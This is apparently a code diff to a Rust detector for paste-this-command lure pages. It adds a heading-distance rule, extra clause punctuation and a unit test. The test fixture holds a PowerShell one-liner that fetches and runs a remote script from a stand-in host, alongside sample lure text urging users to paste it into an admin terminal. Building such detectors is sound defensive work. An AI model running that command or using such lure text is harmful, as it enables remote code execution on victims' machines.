@@ -32,6 +32,8 @@ const PAD_BEFORE_COMMENT: usize = 20;
 const PAD_ANYWHERE: usize = 80;
 /// Bytes from a condition word ("if", "si") to the problem it makes hypothetical.
 const CONDITION_REACH: usize = 120;
+/// Bytes from a troubleshooting heading to the problems of its section.
+const HEADING_REACH: usize = 600;
 /// Weight of a verification word that names no human check ("verification steps",
 /// "verification id"): a pretext in a command's comment or next to a command no docs give.
 const GENERIC_VERIFY: f32 = 0.75;
@@ -795,16 +797,28 @@ impl PageHits {
         })
     }
 
-    /// A problem the page describes rather than claims: under a troubleshooting heading, or
-    /// after "if" / "si" / "wenn" in its own sentence ("if the command is not working, …").
+    /// A problem the page describes rather than claims: under a troubleshooting heading that
+    /// comes after the steps and a little before it (docs put that section after the install
+    /// steps; a lure's "Home | FAQ" menu comes first), or after "if" / "si" / "wenn" in
+    /// its own clause ("if the command is not working, …"; "if you see this message, your
+    /// browser is out of date" claims it).
     fn aside(&self, h: &Hit) -> bool {
-        let under_heading = self.of(Cat::Troubleshooting).any(|t| t.end <= h.start);
+        let steps_before = |t: &Hit| {
+            self.hits.iter().any(|s| {
+                matches!(s.cat, Cat::PasteStep | Cat::RunDialog | Cat::RunTerminal)
+                    && s.end <= t.start
+            })
+        };
+        let under_heading = self
+            .of(Cat::Troubleshooting)
+            .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH && steps_before(t));
         under_heading
             || self.of(Cat::Conditional).any(|c| {
                 c.end <= h.start
                     && h.start - c.end <= CONDITION_REACH
                     && self.base.get(c.end..h.start).is_some_and(|between| {
-                        !between.contains(['.', '!', '?', '\n', '。', '！', '？', ';'])
+                        !between
+                            .contains(['.', '!', '?', '\n', '。', '！', '？', ';', ',', '，', '、'])
                     })
             })
     }
@@ -1437,6 +1451,29 @@ mod tests {
         ] {
             assert!(!judged(clip, text), "{text}");
         }
+    }
+
+    #[test]
+    fn a_lure_keeps_its_story_next_to_a_menu_or_a_condition() {
+        // A "FAQ" link in the menu before the steps, or "if you see this message," before the
+        // story, does not make the lure's story a described problem.
+        let clip = "irm https://update-center.example/install.ps1 | iex";
+        let on = |text: &str| {
+            assess(
+                clip,
+                &PageHits::new([text]).on("https://update-center.example/"),
+            )
+            .is_some()
+        };
+        let lure = "Your browser is out of date. Install the update: press Win + X, choose \
+                    Terminal (Admin), paste and press Enter.";
+        assert!(on(lure));
+        assert!(on(&format!("Home | FAQ | Contact\n{lure}")));
+        assert!(on(&format!("Troubleshooting\n{lure}")));
+        assert!(on(&format!(
+            "If you see this message, {}",
+            lure.to_lowercase()
+        )));
     }
 
     #[test]
